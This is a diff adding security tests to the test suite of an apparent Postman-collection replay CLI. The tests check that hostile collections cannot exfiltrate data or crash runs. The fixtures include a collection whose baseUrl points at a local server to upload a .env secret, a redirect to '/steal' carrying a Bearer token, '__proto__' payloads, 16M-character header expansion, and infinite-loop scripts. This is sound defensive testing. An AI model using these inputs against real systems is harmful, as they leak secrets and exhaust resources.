@@ -10,11 +10,17 @@
 // - File bodies: a `file` body whose src is {{f}}, set by a pre-request script to
 //   /proc/self/environ; a formdata file by ../ and by a link; --iteration-data outside.
 // - The terminal: names, messages and URLs with ESC[1A ESC[2K, \r and newlines.
+// - Item 8, from a security explorer's breaks: the collection's own baseUrl naming a server to send
+//   its folder's .env to, a target's redirect to another host, requests Postman's model cannot read
+//   (which ended the run with no report), 300 headers filled to 16M characters each (out of memory),
+//   one file named 1,000 times in a form, and nested folders of endless scripts past --timeout.
 //
 // The attacks about the process run the bin (cli/bin/mockman.js, on the bundle the slow project's
 // globalSetup builds) under /usr/bin/time -v when it is there: each logs its peak RSS and time,
 // the figures tests/benchmarks.md shows (written by a green `CI=true npm test`). The report's own bound runs in-process, with a stand-in sandbox.
 import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { join } from "node:path";
 import { SaxesParser } from "saxes";
 import { describe, expect, it } from "vitest";
@@ -409,6 +415,189 @@ describe("item 7: the terminal shows what a collection says, never what it does"
       expect(report.results[0].assertions![0].name).toBe(`name${forged}`);
       expect(xml).not.toContain("\x1b");
       lastIsJudged(report);
+    },
+  );
+});
+
+/** A server on 127.0.0.1 that counts what reaches it (a host a collection must not reach), and answers 200 or a redirect. */
+async function hits(redirectTo?: string) {
+  const seen: Array<{ url: string; authorization?: string; body: string }> = [];
+  const server = createServer((request, response) => {
+    const chunks: Buffer[] = [];
+    request.on("data", (chunk: Buffer) => chunks.push(chunk));
+    request.on("end", () => {
+      seen.push({ url: request.url ?? "", authorization: request.headers.authorization, body: Buffer.concat(chunks).toString("utf8") });
+      if (redirectTo && request.url?.startsWith("/redir")) response.writeHead(307, { Location: `${redirectTo}/steal` }).end();
+      else response.writeHead(200, { "Content-Type": "application/json" }).end("{}");
+    });
+  });
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return { url, seen, close: () => new Promise<void>((done) => server.close(() => done())) };
+}
+
+describe("item 8: a collection reaches no host but the target, and no request of it ends the run", () => {
+  it(
+    "the collection's own baseUrl, or the variable its URLs start with, does not choose the target: the run is in-process and says so",
+    { timeout: 120_000 },
+    async () => {
+      const other = await hits();
+      try {
+        const { dir, db } = tempDb();
+        writeFileSync(join(dir, ".env"), "AWS_SECRET=hunter2");
+        const upload = { method: "POST", body: { mode: "file", file: { src: ".env" } } };
+        for (const [name, url] of [
+          ["baseUrl", "{{baseUrl}}/api/posts?limit=1"],
+          ["APIURL", "{{APIURL}}/api/posts?limit=1"],
+        ]) {
+          const file = collection(dir, [item("Upload", url.replace("posts?limit=1", "upload"), {}, upload), after], {
+            variable: [{ key: name, value: other.url }],
+          });
+          const { ran, report } = await replay(`the collection's own {{${name}}}`, dir, db, file);
+          expect(ran.stderr).toContain(
+            `the collection names its own server in {{${name}}} (${other.url}); a collection does not choose where a replay sends its requests, so this run is in-process`,
+          );
+          lastIsJudged(report);
+        }
+        expect(other.seen).toEqual([]);
+      } finally {
+        await other.close();
+      }
+    },
+  );
+
+  it(
+    "a redirect from the target to another host is followed on the target, without the Authorization; the body is not sent elsewhere",
+    { timeout: 120_000 },
+    async () => {
+      const other = await hits();
+      // Another host name (postman-request drops Authorization when the host name changes, not the port).
+      const target = await hits(other.url.replace("127.0.0.1", "localhost"));
+      try {
+        const { dir, db } = tempDb();
+        const file = collection(dir, [
+          item(
+            "Bounce",
+            "{{baseUrl}}/redir",
+            { test: "pm.sendRequest('/redir', () => {});" },
+            {
+              method: "POST",
+              header: [{ key: "Authorization", value: "Bearer secret" }],
+              body: { mode: "raw", raw: "posted-secret-body" },
+            },
+          ),
+        ]);
+        const { report } = await replay("a redirect off the target", dir, db, file, ["--base-url", target.url]);
+        expect(other.seen).toEqual([]);
+        expect(report.results[0].status).toBe(200);
+        const stolen = target.seen.filter((s) => s.url === "/steal");
+        expect(stolen.length).toBe(2);
+        expect(stolen[0]).toEqual({ url: "/steal", body: "posted-secret-body" });
+      } finally {
+        await Promise.all([other.close(), target.close()]);
+      }
+    },
+  );
+
+  it(
+    "a request Postman's model cannot read (an auth type __proto__, credentials or a file src that are no text) fails alone; the reports are written",
+    { timeout: 120_000 },
+    async () => {
+      const { dir, db } = tempDb();
+      // Parsed, so each `__proto__` is a key of the collection's, as JSON.parse gives it, not a prototype.
+      const hostile = JSON.parse(`[
+        {"name": "Proto type", "request": {"method": "GET", "url": "/api/posts?limit=1", "auth": {"type": "__proto__"}}},
+        {"name": "Getter type", "request": {"method": "GET", "url": "/api/posts?limit=1", "auth": {"type": "__defineGetter__"}}},
+        {"name": "Basic proto", "request": {"method": "GET", "url": "/api/posts", "auth": {"type": "basic", "basic": {"__proto__": {"username": "u"}}}}},
+        {"name": "Src object", "request": {"method": "POST", "url": "/api/posts", "body": {"mode": "file", "file": {"src": {"toString": "x"}}}}},
+        {"name": "Script auth", "request": {"method": "GET", "url": "/api/posts?limit=1"},
+         "event": [{"listen": "prerequest", "script": {"exec": ["pm.request.authorizeUsing('__defineGetter__', {});"]}}]}
+      ]`) as unknown[];
+      const file = collection(dir, [...hostile, after]);
+      const { ran, report } = await replay("requests Postman's model cannot read", dir, db, file);
+      expect(ran.code).toBe(1);
+      expect(report.results.map((r) => [r.name, r.status === null ? "not sent" : "sent"])).toEqual([
+        ["proto-type", "not sent"],
+        ["getter-type", "sent"],
+        ["basic-proto", "not sent"],
+        ["src-object", "not sent"],
+        ["script-auth", "sent"],
+        ["after", "sent"],
+      ]);
+      for (const result of [report.results[0], report.results[2], report.results[3]])
+        expect(result.error).toMatch(/^not sent: Postman's model cannot read the request: /);
+      lastIsJudged(report);
+    },
+  );
+
+  it(
+    "300 headers of a variable filled to 16M characters each: not sent at the bound on one request's fills",
+    { timeout: 120_000 },
+    async () => {
+      const { dir, db } = tempDb();
+      const header = Array.from({ length: 300 }, (_, i) => ({ key: `X-${i}`, value: "{{b}}" }));
+      const file = collection(dir, [item("Headers", "/api/posts?limit=1", {}, { header }), after], {
+        variable: [
+          { key: "a", value: "x".repeat(4096) },
+          { key: "b", value: "{{a}}".repeat(4096) },
+        ],
+      });
+      const { ran, report } = await replay("300 headers filled to 16M each", dir, db, file);
+      expect(ran.code).toBe(1);
+      expect(report.results[0].status).toBeNull();
+      expect(report.results[0].error).toBe(
+        `not sent: its {{variables}} expand to more than ${BOUNDS.requestFilledChars.toLocaleString("en-US")} characters in all (the bound on one request's filled-in texts)`,
+      );
+      lastIsJudged(report);
+    },
+  );
+
+  it("a formdata field naming one file 1,000 times: not sent at the bound on one request's file parts", { timeout: 120_000 }, async () => {
+    const { dir, db } = tempDb();
+    writeFileSync(join(dir, "photo.bin"), Buffer.alloc(256 * 1024, 7));
+    const formdata = [{ key: "f", type: "file", src: Array.from({ length: 1000 }, () => "photo.bin") }];
+    const file = collection(dir, [item("Copies", "/api/test-todos", {}, { method: "POST", body: { mode: "formdata", formdata } }), after]);
+    const { ran, report } = await replay("one file 1,000 times in a form", dir, db, file);
+    expect(ran.code).toBe(1);
+    expect(report.results[0].error).toBe(
+      `not sent: its files come to more than ${BOUNDS.fileBytesPerRequest.toLocaleString("en-US")} bytes (the bound on one request's file parts, a file named twice counted twice)`,
+    );
+    lastIsJudged(report);
+  });
+
+  it(
+    "--timeout bounds the scripts: no script starts after it, one running is stopped there, and the request is not sent",
+    { timeout: 120_000 },
+    async () => {
+      const { dir, db } = tempDb();
+      const spin = [
+        { listen: "prerequest", script: { exec: ["for (;;) {}"] } },
+        { listen: "test", script: { exec: ["for (;;) {}"] } },
+      ];
+      let items: unknown[] = [item("Deep", "/api/posts?limit=1")];
+      for (let depth = 0; depth < 12; depth++) items = [{ name: `F${depth}`, item: items, event: spin }];
+      const file = collection(dir, items, { event: spin });
+      const json = join(dir, "report.json");
+      const ran = await measured("12 folders of endless scripts, --timeout 2000", [
+        "replay",
+        file,
+        "--db",
+        db,
+        "--timeout",
+        "2000",
+        "--timeout-script",
+        "2000",
+        "-r",
+        "json",
+        "--reporter-json-export",
+        json,
+      ]);
+      expect(ran.code).toBe(1);
+      expect(ran.stderr).toContain("the run went past --timeout 2000 ms and was stopped");
+      const report = JSON.parse(readFileSync(json, "utf8")) as Report;
+      expect(report.results).toHaveLength(1);
+      expect(report.results[0].status).toBeNull();
+      expect(failureText(report.results[0])).toContain("the run's --timeout passed while it ran; it was stopped there");
     },
   );
 });
